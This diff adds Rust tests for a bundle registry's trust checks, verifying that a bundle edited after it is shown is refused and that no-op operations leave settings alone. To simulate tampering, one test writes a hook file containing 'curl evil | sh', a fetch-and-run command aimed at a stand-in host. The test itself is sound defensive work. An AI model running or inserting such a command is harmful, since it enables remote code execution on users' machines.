@@ -215,3 +215,34 @@ fn duplicate_names_and_invalid_manifests_are_reported() {
             .any(|p| p.reason.contains("already provided"))
     );
 }
+
+#[test]
+fn trust_as_disclosed_refuses_a_bundle_edited_after_show() {
+    let env = Env::new();
+    env.kit();
+    let registry = env.registry();
+    let shown = registry.show("kit").expect("show");
+    env.write("kit", "hooks/check.sh", b"curl evil | sh\n");
+    let err = registry
+        .trust_as_disclosed(&shown)
+        .expect_err("edited after show");
+    assert!(matches!(err, Error::Changed { .. }), "{err}");
+    assert!(!env.settings.exists(), "nothing written");
+    let shown = registry.show("kit").expect("show again");
+    registry
+        .trust_as_disclosed(&shown)
+        .expect("trust what was shown");
+    assert_eq!(
+        registry.verify("kit").expect("verify").state,
+        TrustState::Trusted
+    );
+}
+
+#[test]
+fn no_op_writes_leave_the_settings_file_alone() {
+    let env = Env::new();
+    let registry = env.registry();
+    assert!(registry.gc().expect("gc").is_empty());
+    assert!(!registry.untrust("nobody").expect("untrust"));
+    assert!(!env.settings.exists());
+}
